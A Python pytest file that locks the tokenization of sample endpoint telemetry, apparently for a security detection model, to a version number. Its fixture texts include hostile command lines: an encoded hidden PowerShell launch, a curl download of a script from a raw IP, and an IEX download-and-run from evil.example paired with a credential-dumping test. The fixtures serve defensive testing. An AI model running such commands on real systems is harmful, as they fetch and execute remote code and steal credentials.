"""The tokens of a fixed set of texts, with the version under which they were written down: ``cases/tokens.json``.

After a change that is meant, raise `TOKENS_VERSION`, rewrite the file and review the difference:

    LOGSTER_TEST_REWRITE=1 .venv/bin/python -m pytest tests/models/test_tokens_version.py
"""

from pathlib import Path

import pytest

from models.tokens import TOKENS_VERSION, names_in, tokens_of, unnamed
from models.vocabulary import hash_of
from pipelines.schemas.graphs import NODE_TYPES
from tests.models.versioned import check_versioned

pytestmark = pytest.mark.fast

ENDPOINT = "FIN-07.corp.example"
TEXTS = (
    ("process", "C:\\Windows\\System32\\cmd.exe\ncmd.exe /c whoami > \\\\fin-07\\admin$\\__1612.tmp 2>&1\nuser=CORP\\ada"),
    ("process", "C:\\Users\\ada\\AppData\\Local\\Temp\\a1b2c3d4e5f6.exe\na.exe -p 0x1f4 {0a1b2c3d-0001-0002-0003-0123456789ab}"),
    ("process", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\npowershell -nop -w hidden -enc "
                "SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAA==\nuser=NT AUTHORITY\\SYSTEM"),
    ("process", "/usr/bin/curl\ncurl -fsSL https://93.184.216.34:8443/x/install.sh -o /home/grace/.cache/.x\nuser=grace"),
    ("process", "/usr/sbin/cron\n/usr/sbin/cron -f\nuser=www-data"),
    ("process", "user=FIN-07$"),
    ("file", "\\Device\\HarddiskVolume3\\Documents and Settings\\ada\\My Documents\\report-2026-03-01.docx"),
    ("file", "/tmp/.X11-unix/qzxkwvrtp"),
    ("script", "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1'); Invoke-AtomicTest T1003"),
    ("network", "address=10.1.2.3\nport=445\nprotocol=TCP\ndomain=dc01.corp.example"),
    ("network", "address=fe80::1%eth0\nport=51515\nprotocol=udp"),
    ("network", "port=53\nprotocol=udp\ndomain=x7k2p9q4w1.example.com"),
    ("registry", "HKLM\\System\\CurrentControlSet\\Services\\qwe\\ImagePath\ndata=%systemroot%\\system32\\svc.exe 12:30:01"),
    ("registry", "HKU\\S-1-5-21-1-2-3-1001_Classes\\x\ndata=S-1-5-18"),
    ("user", "user=CORP\\svc-backup$\nlogon_type=10"),
    ("syscall", "ptrace\nprocess_traced SeDebugPrivilege"),
    ("edge", "process_accessed privilege=0x1410 signed=false logon_type=3 outcome=failure"),
)  # fmt: skip


def told() -> list[dict[str, object]]:
    names = names_in(ENDPOINT, TEXTS)
    return [{"kind": kind, "text": text, "tokens": [*unnamed(tokens_of(kind, text), names)]} for kind, text in TEXTS]


def test_tokens_change_only_with_their_version() -> None:
    check_versioned(
        Path(__file__).parent / "cases" / "tokens.json", TOKENS_VERSION, {"hash_of": hash_of("exe:cmd.exe"), "texts": told()},
        way_out="tokens have changed: raise TOKENS_VERSION, and train the shipped weights anew",
    )  # fmt: skip


def test_every_kind_of_node_is_among_the_texts() -> None:
    assert {kind for kind, _ in TEXTS} == {*NODE_TYPES, "edge"}
